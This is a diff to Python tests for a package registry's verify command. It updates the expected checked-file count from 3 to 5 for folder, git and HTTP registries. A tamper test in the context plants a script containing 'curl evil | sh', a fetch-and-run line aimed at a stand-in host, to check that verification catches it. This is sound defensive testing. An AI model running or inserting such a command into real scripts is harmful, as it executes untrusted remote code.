@@ -54,7 +54,8 @@ def test_verify_detects_tampering_and_strays(
         == 0
     )
     ok = json.loads(cli("registry", "verify", str(folder_registry), "--json").stdout)
-    assert ok["ok"] and ok["summary"]["files_checked"] == 3 and ok["summary"]["skills"] == 2
+    # 3 generated files + the 2 SKILL.md sources, which stay in the package
+    assert ok["ok"] and ok["summary"]["files_checked"] == 5 and ok["summary"]["skills"] == 2
     pkg = folder_registry / "packages" / "acme" / "tools"
     (pkg / "lint" / "scripts" / "run.sh").write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
     (pkg / "lint" / "extra.txt").write_text("smuggled")
@@ -182,10 +183,10 @@ def test_verify_over_git_url_and_http(
     pygit2.clone_repository(str(git_registry), str(bare), bare=True)
     doc = json.loads(cli("registry", "verify", bare.as_uri(), "--json").stdout)
     head = str(pygit2.Repository(str(git_registry)).head.target)
-    assert doc["ok"] and doc["commit"] == head and doc["summary"]["files_checked"] == 3
+    assert doc["ok"] and doc["commit"] == head and doc["summary"]["files_checked"] == 5
     url = serve_folder(httpserver, git_registry)
     doc = json.loads(cli("registry", "verify", url, "--json").stdout)
-    assert doc["ok"] and doc["summary"]["files_checked"] == 3 and doc["commit"] is None
+    assert doc["ok"] and doc["summary"]["files_checked"] == 5 and doc["commit"] is None
     (git_registry / "packages/acme/tools/lint/ontoskill.ttl").write_text("tampered")
     proc = cli("registry", "verify", url, "--json")
     assert proc.returncode == 4
